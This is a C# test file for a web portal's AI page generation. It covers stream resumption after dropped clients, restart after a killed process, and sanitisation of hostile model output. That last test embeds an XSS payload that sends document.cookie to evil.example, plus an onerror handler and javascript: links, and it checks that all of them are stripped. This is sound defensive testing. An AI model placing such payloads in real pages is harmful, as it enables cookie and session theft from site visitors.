using System.Diagnostics;
using System.Net;
using System.Net.Http.Headers;
using SiteBuilder.Identity;
using SiteBuilder.TestSupport;
using SiteBuilder.TestSupport.FakeBedrock;

namespace SiteBuilder.Portal.Tests;

/// <summary>
/// Issue 4's "done when" points that need a model with real timing: clients dropping mid-stream, hostile model output, and a
/// portal killed mid-generation. Claude is a fake Bedrock speaking the real wire format.
/// </summary>
public sealed class GenerationResilienceTests : IAsyncLifetime
{
    private FakeBedrockServer _bedrock = null!;
    private GenerationPortal _portal = null!;

    private CancellationToken Ct => TestContext.Current.CancellationToken;

    public async ValueTask InitializeAsync()
    {
        _bedrock = await FakeBedrockServer.StartAsync(cancellationToken: TestContext.Current.CancellationToken);
        _portal = new GenerationPortal(_bedrock);
        // A real socket: dropping a response closes the connection, as a client that goes away does.
        _portal.ListenOnLoopback();
    }

    public async ValueTask DisposeAsync()
    {
        await _portal.DisposeAsync();
        await _bedrock.DisposeAsync();
    }

    [Fact]
    public async Task DroppingTheClientAt50RandomPointsAndResumingWithLastEventIdAlwaysReassemblesTheStoredPage()
    {
        var client = _portal.ApiClient(await _portal.CreateTokenAsync("acme", Roles.Marketer), "acme");
        // A page written over about 200 ms, so drops land before, during and after the model's stream.
        _bedrock.DefaultScript = new FakeBedrockScript { Text = ModelPages.Long(8), DeltaCount = 40, DeltaLatency = TimeSpan.FromMilliseconds(5) };
        var random = new Random(20261126);

        for (var drop = 0; drop < 50; drop++)
        {
            var budget = random.Next(1, 9_000);
            var first = await client.StartGenerationAsync("acme", new { prompt = $"A sale page for Northwind, take {drop}" }, Ct);
            Assert.Equal(HttpStatusCode.OK, first.StatusCode);
            var generationId = first.Headers.GetValues("X-Generation-Id").Single();
            var read = await Sse.ReadAsync(first, budget, Ct);
            var events = new List<SseEvent>(read.Events);
            var reconnects = 0;
            while (events.Count == 0 || !events[^1].IsTerminal)
            {
                Assert.True(++reconnects < 100, $"drop {drop}: no terminal event after {reconnects} reconnects");
                var resumed = await client.EventsAsync("acme", generationId, events.Count > 0 ? events[^1].Id : null, Ct);
                events.AddRange((await Sse.ReadAsync(resumed, random.Next(1, 9_000), Ct)).Events);
            }

            GenerationCalls.AssertContiguousIds(events);
            Assert.Equal("complete", events[^1].Type);
            Assert.Equal(await client.HtmlAsync("acme", generationId, Ct), Sse.Html(events));
        }
    }

    [Fact]
    public async Task ModelOutputWithAScriptAnOnerrorAndAJavascriptLinkIsStreamedStoredAndServedWithoutThem()
    {
        var client = _portal.ApiClient(await _portal.CreateTokenAsync("acme", Roles.Marketer), "acme");
        var hostile = ModelPages.Long(3).Replace("<main>", """
            <main><script>fetch('https://evil.example/?c=' + document.cookie)</script>
            <img src="https://cdn.example.com/hero.png" alt="Hero" onerror="alert(1)">
            <p><a href="javascript:alert(document.domain)">Claim your prize</a> <a href=" JaVaScRiPt:alert(2)">again</a></p>
            """, StringComparison.Ordinal);
        _bedrock.Enqueue(new FakeBedrockScript { Text = hostile, DeltaCount = 23 });

        var events = await client.GenerateAsync("acme", new { prompt = "A sale page for Northwind" }, Ct);
        var generationId = GenerationCalls.GenerationId(events);
        var page = await client.GetAsync($"/v1/sites/acme/generations/{generationId}/html", Ct);
        var served = await page.Content.ReadAsStringAsync(Ct);

        foreach (var html in new[] { Sse.Html(events), served })
        {
            Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("onerror", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("evil.example", html, StringComparison.OrdinalIgnoreCase);
            Assert.Contains("Claim your prize", html, StringComparison.Ordinal);
            Assert.Contains("https://cdn.example.com/hero.png", html, StringComparison.Ordinal);
        }

        Assert.Equal(Sse.Html(events), served);
        GenerationApiTests.AssertNoScriptPolicy(page);
    }

    /// <remarks>Issue 4: killing the process mid-generation and restarting leaves no generation stuck; issue 13: it resumes to the end.</remarks>
    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task AGenerationOfAKilledPortalResumesToItsWholePageWhenThePortalStartsAgain(bool modelWritesAnotherPage)
    {
        var dataDirectory = Path.Combine(Path.GetTempPath(), "sitebuilder-tests", Guid.NewGuid().ToString("N"));
        Directory.CreateDirectory(dataDirectory);
        var c = _bedrock.Credentials;
        var environment = new Dictionary<string, string>
        {
            ["SiteBuilder__DataDirectory"] = dataDirectory,
            ["SiteBuilder__Generation__Provider"] = "Bedrock",
            ["SiteBuilder__Generation__Bedrock__Endpoint"] = _bedrock.BaseUrl.ToString(),
            ["SiteBuilder__Generation__Bedrock__Region"] = c.Region,
            ["SiteBuilder__Generation__Bedrock__IdleTimeout"] = "00:05:00",
            ["SiteBuilder__Generation__HeartbeatInterval"] = "00:00:00.500",
            ["SiteBuilder__Generation__StaleAfter"] = "00:00:02",
            ["AWS_ACCESS_KEY_ID"] = c.AccessKeyId,
            ["AWS_SECRET_ACCESS_KEY"] = c.SecretAccessKey,
            ["AWS_SESSION_TOKEN"] = c.SessionToken ?? "",
        };
        Assert.Equal(0, (await PortalProcess.RunAsync(["users", "add", "kim", "--role", "Marketer", "--tenant", "acme"], environment, dataDirectory, TimeSpan.FromSeconds(90), Ct)).ExitCode);
        var token = (await PortalProcess.RunAsync(["token", "--user", "kim", "--tenant", "acme"], environment, dataDirectory, TimeSpan.FromSeconds(90), Ct)).StdOut.Trim().Split('\n')[^1].Trim();
        // The model writes a little and then hangs, so the generation is mid-stream when the process dies.
        _bedrock.Enqueue(new FakeBedrockScript { Text = ModelPages.Long(6), DeltaCount = 20, StallAfterDeltas = 6 });
        // The restarted portal asks the model again from the recorded request and it writes to the end this time: the same page, or
        // (a model is not deterministic) another one, which the stream then starts over with.
        var secondPage = modelWritesAnotherPage ? ModelPages.Long(6).Replace("Northwind Spring Sale", "Northwind Summer Sale", StringComparison.Ordinal) : ModelPages.Long(6);
        _bedrock.Enqueue(new FakeBedrockScript { Text = secondPage, DeltaCount = 20 });

        string generationId;
        using (var first = await StartServerAsync(environment, dataDirectory))
        {
            using var client = Client(first.Address, token);
            var stream = await client.StartGenerationAsync("acme", new { prompt = "A sale page for Northwind" }, Ct);
            Assert.Equal(HttpStatusCode.OK, stream.StatusCode);
            generationId = stream.Headers.GetValues("X-Generation-Id").Single();
            Assert.Equal("generating", (await client.StateAsync("acme", generationId, Ct)).GetProperty("status").GetString());
            first.Process.Kill(entireProcessTree: true);
            await first.Process.WaitForExitAsync(Ct);
        }

        using var second = await StartServerAsync(environment, dataDirectory);
        using var again = Client(second.Address, token);
        var state = await again.WaitForEndAsync("acme", generationId, Ct);
        var events = await Sse.ReadToEndAsync(await again.EventsAsync("acme", generationId, null, Ct), Ct);

        Assert.Equal("complete", state.GetProperty("status").GetString());
        GenerationCalls.AssertContiguousIds(events);
        Assert.Contains(events, e => e.Type == "progress" && e.Json.GetProperty("step").GetString() == "resume");
        Assert.Equal("complete", events[^1].Type);
        Assert.Equal(state.GetProperty("lastEventId").GetInt64(), events[^1].Id);
        var restart = events.ToList().FindLastIndex(e => e.Type == "progress" && e.Json.GetProperty("step").GetString() == "restart");
        Assert.Equal(modelWritesAnotherPage, restart >= 0);
        var html = await again.HtmlAsync("acme", generationId, Ct);
        Assert.Equal(html, Sse.Html(events.Skip(restart + 1)));
        Assert.Contains(modelWritesAnotherPage ? "Northwind Summer Sale" : "Northwind Spring Sale", html, StringComparison.Ordinal);
        second.Process.Kill(entireProcessTree: true);
        try
        {
            Directory.Delete(dataDirectory, recursive: true);
        }
        catch (IOException)
        {
            // The OS cleans the temp folder.
        }
    }

    private static HttpClient Client(string address, string token)
    {
        var client = new HttpClient { BaseAddress = new Uri(address), Timeout = TimeSpan.FromMinutes(2) };
        client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", token);
        client.DefaultRequestHeaders.Add("X-Tenant-Id", "acme");
        return client;
    }

    private async Task<ServerProcess> StartServerAsync(Dictionary<string, string> environment, string workingDirectory)
    {
        var address = $"http://127.0.0.1:{LoopbackPort.GetFree()}";
        var start = new ProcessStartInfo("dotnet") { WorkingDirectory = workingDirectory, UseShellExecute = false, RedirectStandardOutput = true, RedirectStandardError = true };
        foreach (var arg in new[] { PortalProcess.DllPath, "--urls", address })
        {
            start.ArgumentList.Add(arg);
        }

        foreach (var (key, value) in environment)
        {
            start.Environment[key] = value;
        }

        var server = new ServerProcess(Process.Start(start)!, address);
        server.Process.OutputDataReceived += (_, _) => { };
        server.Process.ErrorDataReceived += (_, _) => { };
        server.Process.BeginOutputReadLine();
        server.Process.BeginErrorReadLine();
        using var probe = new HttpClient { BaseAddress = new Uri(address) };
        var deadline = Stopwatch.StartNew();
        while (true)
        {
            Assert.False(server.Process.HasExited, "the portal exited at start");
            try
            {
                if ((await probe.GetAsync("/health", Ct)).IsSuccessStatusCode)
                {
                    return server;
                }
            }
            catch (HttpRequestException) when (deadline.Elapsed < TimeSpan.FromSeconds(90))
            {
                // Not listening yet.
            }

            await Task.Delay(200, Ct);
        }
    }

    /// <summary>A portal server process; disposing kills it if it still runs.</summary>
    private sealed record ServerProcess(Process Process, string Address) : IDisposable
    {
        public void Dispose()
        {
            if (!Process.HasExited)
            {
                Process.Kill(entireProcessTree: true);
                Process.WaitForExit();
            }

            Process.Dispose();
        }
    }
}
